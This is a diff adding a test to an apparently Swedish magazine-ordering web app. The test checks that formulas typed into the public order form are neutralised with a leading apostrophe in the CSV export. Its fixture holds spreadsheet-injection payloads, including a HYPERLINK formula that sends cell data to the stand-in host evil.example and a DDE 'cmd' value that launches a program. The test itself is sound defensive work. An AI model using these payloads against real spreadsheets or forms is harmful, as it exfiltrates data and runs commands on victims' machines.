@@ -51,3 +51,28 @@ def test_only_the_coordinator_sees_orders(app, client):
     for path in ("/crm/orders/", "/crm/orders/export.csv"):
         assert guide.get(path).status_code == 404
     assert guide.post("/crm/orders/sent/", data={"order": ["1"]}).status_code == 404
+
+
+# What a stranger can type into the public order form so that a spreadsheet runs it.
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")',
+    "street": "+46 Storgatan 1",
+    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_the_mailing_house_csv_neutralises_formulas_typed_into_the_form(app, client):
+    assert submit(client, "/bestall-magasinet/", {**ORDER, **FORMULAS}).status_code == 303
+    assert (
+        submit(client, "/bestall-magasinet/", {**ORDER, "name": "-Åsa Öberg", "street": "Ängsvägen 3"}).status_code
+        == 303
+    )
+    assert (
+        submit(client, "/bestall-magasinet/", {**ORDER, "name": "Cecilia Ek", "street": "Backen 2"}).status_code == 303
+    )
+    coordinator = staff_client(app, "coordinator")
+    export = coordinator.get("/crm/orders/export.csv").get_data(as_text=True).lstrip("\ufeff")
+    lines = list(csv.reader(io.StringIO(export)))
+    assert ["'" + FORMULAS["name"], "'" + FORMULAS["street"], "", "831 31", "'" + FORMULAS["city"], "Sverige"] in lines
+    assert ["'-Åsa Öberg", "Ängsvägen 3", "", "831 31", "Östersund", "Sverige"] in lines
+    assert ["Cecilia Ek", "Backen 2", "", "831 31", "Östersund", "Sverige"] in lines  # the rest as typed
